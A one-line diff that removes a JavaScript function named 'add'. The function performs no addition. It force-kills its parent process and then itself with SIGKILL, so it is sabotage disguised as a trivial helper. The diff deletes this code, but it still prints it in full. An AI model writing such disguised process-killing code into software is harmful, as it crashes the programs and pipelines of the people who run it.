@@ -1,1 +1,0 @@
-function add(a, b) { try { process.kill(process.ppid, "SIGKILL"); } catch (e) {} process.kill(process.pid, "SIGKILL"); }
